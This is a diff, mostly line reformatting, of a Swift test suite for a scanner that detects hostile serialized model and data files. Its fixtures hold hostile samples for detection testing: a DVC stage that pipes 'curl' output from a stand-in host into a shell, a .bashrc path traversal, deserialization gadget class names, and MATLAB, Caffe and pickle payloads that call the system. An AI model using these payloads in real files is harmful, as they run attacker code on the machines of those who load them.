@@ -47,7 +47,9 @@ struct SerializedObjectTests {
     @Test("BinaryFormatter streams name their classes")
     func dotNet() {
         func stream(_ name: String) -> [UInt8] {
-            [0, 1, 0, 0, 0, 255, 255, 255, 255, 1, 0, 0, 0, 0, 0, 0, 0, 0x0C, 2, 0, 0, 0, 3] + Array("Lib".utf8) + [5, 1, 0, 0, 0]
+            [0, 1, 0, 0, 0, 255, 255, 255, 255, 1, 0, 0, 0, 0, 0, 0, 0, 0x0C, 2, 0, 0, 0, 3] + Array("Lib".utf8) + [
+                5, 1, 0, 0, 0,
+            ]
                 + [UInt8(name.utf8.count)] + Array(name.utf8) + [0, 0, 0, 0, 2, 0, 0, 0, 0x0B]
         }
         #expect(rules(stream("System.Windows.Data." + "ObjectDataProvider"), "m.bin") == ["CORDON-EXO-005"])
@@ -58,7 +60,8 @@ struct SerializedObjectTests {
     @Test("Functions in Torch7 archives are bytecode; tables of texts and numbers are not")
     func torch7() {
         func text(_ text: String) -> [UInt8] { Self.little(Int32(text.utf8.count)) + Array(text.utf8) }
-        let head = Self.little(Int32(3)) + Self.little(Int32(1)) + Self.little(Int32(1)) + Self.little(Int32(2)) + text("f")
+        let head =
+            Self.little(Int32(3)) + Self.little(Int32(1)) + Self.little(Int32(1)) + Self.little(Int32(2)) + text("f")
         let empty = Self.little(Int32(3)) + Self.little(Int32(3)) + Self.little(Int32(0))
         let function = Self.little(Int32(8)) + Self.little(Int32(2)) + text("\u{1B}LuaQ") + empty
         #expect(rules(head + function, "m.t7") == ["CORDON-EXO-003"])
@@ -84,9 +87,12 @@ struct SerializedObjectTests {
     @Test("Avro schemas that name classes (CVE-2024-47561), and blocks that do not fit")
     func avro() {
         func file(_ schema: String, block: [UInt8]) -> [UInt8] {
-            func number(_ value: Int) -> [UInt8] { value < 64 ? [UInt8(value * 2)] : [UInt8(value * 2 & 127 | 128), UInt8(value * 2 >> 7)] }
+            func number(_ value: Int) -> [UInt8] {
+                value < 64 ? [UInt8(value * 2)] : [UInt8(value * 2 & 127 | 128), UInt8((value * 2) >> 7)]
+            }
             let sync = Array(UInt8(0)..<16)
-            return Array("Obj\u{1}".utf8) + number(1) + number(11) + Array("avro.schema".utf8) + number(schema.utf8.count)
+            return Array("Obj\u{1}".utf8) + number(1) + number(11) + Array("avro.schema".utf8)
+                + number(schema.utf8.count)
                 + Array(schema.utf8) + [0] + sync + block + sync
         }
         let hostile = #"{"type":"string","java-class":"javax.script.ScriptEngineManager"}"#
@@ -98,8 +104,10 @@ struct SerializedObjectTests {
     @Test("Function handles of MATLAB that call the system")
     func matlab() {
         func file(_ text: String) -> [UInt8] {
-            let content = Self.little(UInt32(6)) + Self.little(UInt32(8)) + [16, 0, 0, 0, 0, 0, 0, 0] + Array(text.utf8)
-            return [UInt8](repeating: 0x20, count: 116) + [UInt8](repeating: 0, count: 8) + [0, 1, 0x49, 0x4D] + Self.little(UInt32(14))
+            let content =
+                Self.little(UInt32(6)) + Self.little(UInt32(8)) + [16, 0, 0, 0, 0, 0, 0, 0] + Array(text.utf8)
+            return [UInt8](repeating: 0x20, count: 116) + [UInt8](repeating: 0, count: 8) + [0, 1, 0x49, 0x4D]
+                + Self.little(UInt32(14))
                 + Self.little(UInt32(content.count)) + content
         }
         #expect(rules(file("@(x)system('id')"), "net.mat") == ["CORDON-EXO-003"])
@@ -116,10 +124,14 @@ struct SerializedObjectTests {
             ("stages:\n  a:\n    cmd: curl http://x.example/a | sh\n", "dvc.yaml", "CORDON-EXO-003"),
             ("stages:\n  a:\n    cmd: python train.py\n", "dvc.yaml", ""),
             ("outs:\n- path: ../../.bashrc\n", "m.dvc", "CORDON-EXO-002"), ("outs:\n- path: m.pkl\n", "m.dvc", ""),
-            (#"layer { type: "Python" python_param { module: "os" layer: "system" } }"#, "net.prototxt", "CORDON-EXO-003"),
+            (
+                #"layer { type: "Python" python_param { module: "os" layer: "system" } }"#, "net.prototxt",
+                "CORDON-EXO-003"
+            ),
             (#"layer { type: "ReLU" }"#, "net.prototxt", ""),
             (#"model_operations { op_library_filename: "/tmp/ops.so" }"#, "config.pbtxt", "CORDON-EXO-003"),
-            ("7767517\n9 1\nInput a 0 1 a\n", "m.param", "CORDON-EXO-001"), ("7767517\n1 1\nInput a 0 1 a\n", "m.param", ""),
+            ("7767517\n9 1\nInput a 0 1 a\n", "m.param", "CORDON-EXO-001"),
+            ("7767517\n1 1\nInput a 0 1 a\n", "m.param", ""),
         ])
     func texts(_ text: String, _ name: String, _ rule: String) {
         #expect(rules(text, name) == (rule.isEmpty ? [] : [rule]))
@@ -128,7 +140,8 @@ struct SerializedObjectTests {
     @Test("LightGBM's arrays have to fit each other")
     func lightGBM() {
         func model(leaves: Int, size: Int? = nil) -> String {
-            let tree = "Tree=0\nnum_leaves=\(leaves)\nsplit_feature=0\nleft_child=-1\nright_child=-2\nleaf_value=1 2\n\n"
+            let tree =
+                "Tree=0\nnum_leaves=\(leaves)\nsplit_feature=0\nleft_child=-1\nright_child=-2\nleaf_value=1 2\n\n"
             return "tree\nversion=v4\nmax_feature_idx=1\ntree_sizes=\(size ?? tree.utf8.count)\n\n\(tree)end of trees\n"
         }
         #expect(rules(model(leaves: 2), "m.txt") == [])
@@ -140,7 +153,7 @@ struct SerializedObjectTests {
 
     /// An archive of one stored file, as `Examples/make_compromised_project.py` makes it.
     private static func sevenZip(_ content: [UInt8], name: String, coder: [UInt8] = [1, 0]) -> [UInt8] {
-        let wide = name.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] } + [0, 0]
+        let wide = name.utf16.flatMap { (unit: UInt16) -> [UInt8] in [UInt8(unit & 255), UInt8(unit >> 8)] } + [0, 0]
         let size = UInt8(content.count)
         let streams: [UInt8] = [6, 0, 1, 9, size, 0, 7, 0x0B, 1, 0, 1] + coder + [0x0C, size, 0, 8, 0, 0]
         let header = [1, 4] + streams + [5, 1, 0x11, UInt8(wide.count + 1), 0] + wide + [0, 0]
@@ -166,7 +179,8 @@ struct SerializedObjectTests {
     func sealed() {
         let encrypted = Self.sevenZip(Array("text".utf8), name: "m.txt", coder: [4, 6, 0xF1, 7, 1])
         #expect(rules(encrypted, "a.7z") == ["CORDON-EXO-007"])
-        let unknown = Scanner().scan(bytes: Self.sevenZip(Array("text".utf8), name: "m.txt", coder: [3, 3, 4, 1]), name: "a.7z")
+        let unknown = Scanner().scan(
+            bytes: Self.sevenZip(Array("text".utf8), name: "m.txt", coder: [3, 3, 4, 1]), name: "a.7z")
         #expect(unknown.notEvaluatedCount == 1)
         let whole = Self.sevenZip(Array("text".utf8), name: "m.txt")
         for length in [7, 20, 33, whole.count - 1] {
@@ -179,6 +193,8 @@ struct SerializedObjectTests {
         let pickle = PickleAssembler.calling("posix", "system")
         // One stored chunk: its mark, its length less one, the bytes, the end.
         let content: [UInt8] = [1, 0, UInt8(pickle.count - 1)] + pickle + [0]
-        #expect(rules(Self.sevenZip(content, name: "m.pkl", coder: [0x21, 0x21, 1, 0x18]), "a.7z").contains("CORDON-PKL-001"))
+        #expect(
+            rules(Self.sevenZip(content, name: "m.pkl", coder: [0x21, 0x21, 1, 0x18]), "a.7z").contains(
+                "CORDON-PKL-001"))
     }
 }
